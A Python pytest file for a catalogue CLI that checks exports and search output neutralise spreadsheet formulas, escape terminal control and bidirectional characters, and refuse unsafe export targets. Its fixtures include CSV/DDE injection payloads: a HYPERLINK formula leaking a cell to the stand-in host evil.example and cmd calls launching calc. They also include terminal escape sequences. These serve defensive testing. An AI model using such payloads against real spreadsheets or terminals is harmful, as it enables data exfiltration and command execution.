"""What the CLI writes is safe: CSV formulas neutralised, no control characters on a terminal,
user input escaped in messages, and exports only into regular files, with the umask."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import sys
from pathlib import Path

import pytest
import yaml
from conftest import catalog_data, write_catalog

from catalog_tui.cli import main
from catalog_tui.core.text import UNSAFE_CHARACTERS

pytestmark = pytest.mark.usefixtures("english")  # these read the CLI's English messages

# The seven ways a cell starts a formula: OWASP's = + - @ tab CR, and LF.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HOSTILE = ["标题\x1b]0;pwned\x07\x1b[2J光标", "C1\x9b31m红", "双向\u202eexe.txt\u202c", "零宽\u200b字"]


def catalogue_with_titles(tmp_path: Path, titles: list[str]) -> list[str]:
    data = catalog_data()
    work = data["works"][0]
    data["works"] = [{**work, "id": f"w{i}", "title": title} for i, title in enumerate(titles)]
    catalog_file = write_catalog(tmp_path / "catalog.yaml", data)
    return ["--catalog", str(catalog_file), "--db", str(tmp_path / "store" / "store.json")]


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


class FakeStdout(io.TextIOWrapper):
    """A stdout that is a terminal or a pipe, and keeps the exact bytes written (no newline
    translation, unlike capsys, so a CR inside a CSV cell stays a CR)."""

    def __init__(self, terminal: bool) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8")
        self.terminal = terminal

    def isatty(self) -> bool:
        return self.terminal

    def written(self) -> str:
        self.flush()
        return self.buffer.getvalue().decode("utf-8")  # type: ignore[attr-defined]


# CSV formulas ------------------------------------------------------------------------------------


def test_csv_export_and_search_neutralise_every_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    store = catalogue_with_titles(tmp_path, FORMULAS)
    target = tmp_path / "out.csv"
    assert cli(capsys, "export", "", "-o", str(target), *store)[0] == 0
    pipe = FakeStdout(terminal=False)
    with monkeypatch.context() as patched:
        patched.setattr(sys, "stdout", pipe)
        assert main(["search", "", "--format", "csv", *store]) == 0
    searched = pipe.written()
    for text in (target.read_bytes().decode("utf-8-sig"), searched):
        titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(text, newline="")))
        assert titles == sorted("'" + formula for formula in FORMULAS)
    # JSON keeps the data as it is: only a spreadsheet cell needs the quote.
    _, as_json, _ = cli(capsys, "search", "", "--format", "json", *store)
    assert sorted(w["title"] for w in json.loads(as_json)["works"]) == sorted(FORMULAS)


# Control characters ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_json_and_yaml_escape_controls_and_keep_the_data(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    store = catalogue_with_titles(tmp_path, HOSTILE)
    _, out, _ = cli(capsys, "search", "", "--format", fmt, *store)
    assert not UNSAFE_CHARACTERS.search(out), "a raw control, bidi or invisible character"
    data = json.loads(out) if fmt == "json" else yaml.safe_load(out)
    assert sorted(w["title"] for w in data["works"]) == sorted(HOSTILE)
    target = tmp_path / f"out.{fmt}"
    assert cli(capsys, "export", "", "-o", str(target), *store)[0] == 0
    assert not UNSAFE_CHARACTERS.search(target.read_text(encoding="utf-8"))


def test_csv_is_exact_in_a_pipe_and_escaped_on_a_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    store = catalogue_with_titles(tmp_path, HOSTILE)
    pipe = FakeStdout(terminal=False)
    with monkeypatch.context() as patched:
        patched.setattr(sys, "stdout", pipe)
        assert main(["search", "", "--format", "csv", *store]) == 0
    piped = pipe.written()
    assert sorted(r["title"] for r in csv.DictReader(io.StringIO(piped, newline=""))) == sorted(HOSTILE)
    terminal = FakeStdout(terminal=True)
    monkeypatch.setattr(sys, "stdout", terminal)
    assert main(["search", "", "--format", "csv", *store]) == 0
    shown = terminal.written()
    assert not UNSAFE_CHARACTERS.search(shown)
    assert "标题\\x1b]0;pwned\\x07" in shown


def test_query_errors_and_the_success_line_escape_user_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = catalogue_with_titles(tmp_path, ["醒狮"])
    code, _, err = cli(capsys, "search", '\x1b]2;X\x07"x', *store)
    assert code == 2 and "\x1b" not in err and "\x07" not in err
    query_line, caret_line = err.splitlines()[-2:]
    assert query_line.strip() == '\\x1b]2;X\\x07"x'
    assert query_line[caret_line.index("^")] == '"'  # the caret still points at the quote
    code, _, err = cli(capsys, "search", "@\x1b[31m", *store)
    assert code == 2 and "\x1b" not in err
    name = tmp_path / "out\x1b]0;t\x07.yaml"
    code, out, _ = cli(capsys, "export", "", "-o", str(name), *store)
    assert code == 0 and "\x1b" not in out and "out\\x1b]0;t\\x07.yaml" in out


# Where exports go --------------------------------------------------------------------------------


@pytest.fixture
def store(tmp_path: Path) -> list[str]:
    return catalogue_with_titles(tmp_path, ["醒狮", "阿勒泰"])


def test_dash_writes_to_stdout(tmp_path: Path, capsys: pytest.CaptureFixture[str], store: list[str]) -> None:
    code, out, _ = cli(capsys, "export", "", "-o", "-", *store)
    assert code == 0 and len(yaml.safe_load(out)["works"]) == 2
    assert not (Path.cwd() / "-").exists()
    code, out, _ = cli(capsys, "export", "", "-o", "-", "--format", "csv", *store)
    assert code == 0 and not out.startswith("\ufeff") and len(out.splitlines()) == 3


@pytest.mark.parametrize(
    ("name", "message"),
    [("out.txt", "cannot tell the format"), ("out", "cannot tell the format"), ("newdir/", "names a folder")],
)
def test_names_that_say_no_format_or_a_folder_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], store: list[str], name: str, message: str
) -> None:
    code, _, err = cli(capsys, "export", "", "-o", f"{tmp_path}/{name}", *store)
    assert code == 1 and message in err and err.count("\n") == 1
    assert not (tmp_path / name.rstrip("/")).exists()


def test_force_replaces_a_regular_file_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], store: list[str]
) -> None:
    regular = tmp_path / "regular.yaml"
    regular.write_text("old", encoding="utf-8")
    regular.chmod(0o640)
    assert cli(capsys, "export", "", "-o", str(regular), "--force", *store)[0] == 0
    assert "醒狮" in regular.read_text(encoding="utf-8")
    assert stat.S_IMODE(regular.stat().st_mode) == 0o640  # a replaced file keeps its mode

    aim = tmp_path / "aim.yaml"
    aim.write_text("the link's target", encoding="utf-8")
    link = tmp_path / "link.yaml"
    link.symlink_to(aim)
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.yaml"
    folder.mkdir()
    for target, kind in (
        (link, "symbolic link"),
        (fifo, "FIFO"),
        (folder, "folder"),
        (Path("/dev/null"), "device"),
    ):
        code, _, err = cli(capsys, "export", "", "-o", str(target), "--force", *store)
        assert code == 1 and kind in err, err
    assert link.is_symlink() and aim.read_text(encoding="utf-8") == "the link's target"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and folder.is_dir()
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write a read-only file")
def test_force_leaves_a_read_only_file_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], store: list[str]
) -> None:
    locked = tmp_path / "locked.yaml"
    locked.write_text("keep", encoding="utf-8")
    locked.chmod(0o444)
    code, _, err = cli(capsys, "export", "", "-o", str(locked), "--force", *store)
    assert code == 1 and "read-only" in err and locked.read_text(encoding="utf-8") == "keep"


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_new_exports_follow_the_umask(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], store: list[str], umask: int, mode: int
) -> None:
    target = tmp_path / "new.json"
    previous = os.umask(umask)
    try:
        assert cli(capsys, "export", "", "-o", str(target), *store)[0] == 0
    finally:
        os.umask(previous)
    assert stat.S_IMODE(target.stat().st_mode) == mode
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
